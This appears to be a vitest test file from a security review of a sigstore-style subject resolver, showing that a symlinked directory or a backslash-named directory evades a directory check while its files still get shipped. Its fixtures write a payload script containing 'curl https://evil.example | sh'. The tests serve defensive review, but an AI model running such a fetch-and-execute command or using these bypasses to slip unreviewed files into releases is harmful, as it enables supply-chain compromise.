// Review of row 173 (subject-path and directories): a *symlink* to a directory, matched by `artifacts/*`, is left out
// without a word. tinyglobby, with onlyFiles: false, lists real directories (`payload/`) but not a symbolic link to a
// directory, and with onlyFiles: true it lists no such link either; so `refuseUnjudgedDirectories` never sees it, and
// the stage goes on with the reviewed artifact alone — while `./deploy.sh artifacts/*` (scp -r, zip -r, aws s3 cp
// --recursive, rsync -L, cp -rL/-H …) ships the link's files.
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { resolveSubjects } from '@twokey/sigstore';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';

let workspace: string;
beforeEach(() => {
  workspace = mkdtempSync(join(tmpdir(), 'twokey-review-subjects-'));
  mkdirSync(join(workspace, 'artifacts'), { recursive: true });
  writeFileSync(join(workspace, 'artifacts', 'app.tar.gz'), 'app 1.0\n');
  // The build job's extra: a directory beside artifacts/ (a tarball of the workspace carries both, and the link)…
  mkdirSync(join(workspace, '.stash', 'payload'), { recursive: true });
  writeFileSync(join(workspace, '.stash', 'payload', 'post-install.sh'), 'curl https://evil.example | sh\n');
  // …and a relative link to it among the artifacts.
  symlinkSync('../.stash/payload', join(workspace, 'artifacts', 'payload'));
});
afterEach(() => rmSync(workspace, { recursive: true, force: true }));

const resolve = (subjectPath: string) =>
  resolveSubjects({ subjectPath, subjectDigest: '', subjectName: '', subjectChecksums: '' }, workspace);

describe('row 173 bypass: a symlink to a directory', () => {
  it('is silently left out of artifacts/* (no SUBJECT_DIRECTORY): only the reviewed artifact is a subject', async () => {
    const subjects = await resolve('artifacts/*');
    expect(subjects.map((s) => s.name)).toEqual(['app.tar.gz']);
  });

  it('while the same layout with a real directory is refused (the fix works for directories only)', async () => {
    rmSync(join(workspace, 'artifacts', 'payload'));
    mkdirSync(join(workspace, 'artifacts', 'payload'));
    writeFileSync(join(workspace, 'artifacts', 'payload', 'post-install.sh'), 'curl https://evil.example | sh\n');
    await expect(resolve('artifacts/*')).rejects.toMatchObject({ code: 'SUBJECT_DIRECTORY' });
  });

  it('and its files are there to ship: artifacts/** follows the link', async () => {
    expect((await resolve('artifacts/**')).map((s) => s.name).sort()).toEqual(['app.tar.gz', 'post-install.sh']);
  });
});

describe('row 173 bypass: a directory whose name holds a backslash', () => {
  it('is taken for an empty directory (tinyglobby reads the backslash of cwd as a separator) and let be', async () => {
    rmSync(join(workspace, 'artifacts', 'payload'));
    // A real directory this time, beside the reviewed artifact.
    mkdirSync(join(workspace, 'artifacts', 'pay\\load'));
    writeFileSync(join(workspace, 'artifacts', 'pay\\load', 'post-install.sh'), 'curl https://evil.example | sh\n');
    const subjects = await resolve('artifacts/*');
    expect(subjects.map((s) => s.name)).toEqual(['app.tar.gz']);
    // Its file is there for artifacts/** (so for the step that ships artifacts/*): only the check cannot see it.
    expect((await resolve('artifacts/**')).map((s) => s.name).sort()).toEqual(['app.tar.gz', 'post-install.sh']);
  });
});
